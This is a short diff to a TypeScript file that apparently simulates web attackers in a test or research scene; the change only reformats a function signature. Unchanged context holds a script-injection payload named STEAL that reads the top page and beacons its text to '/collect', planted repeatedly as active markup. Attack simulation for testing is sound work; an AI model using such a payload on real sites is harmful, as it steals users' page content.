@@ -5,7 +5,12 @@ import type { Attack, Attacker } from './scene.ts';
 
 const STEAL = "top.fetch('/').then(r=>r.text()).then(t=>top.navigator.sendBeacon('/collect',t))";
 
-async function plant(attacker: Attacker, service: Service, leave: (payload: string) => Promise<unknown>, shownAt: number) {
+async function plant(
+  attacker: Attacker,
+  service: Service,
+  leave: (payload: string) => Promise<unknown>,
+  shownAt: number,
+) {
   for (let i = 0; i < 4; i++) {
     const payload = activeMarkup(STEAL, attacker.random);
     await leave(payload);
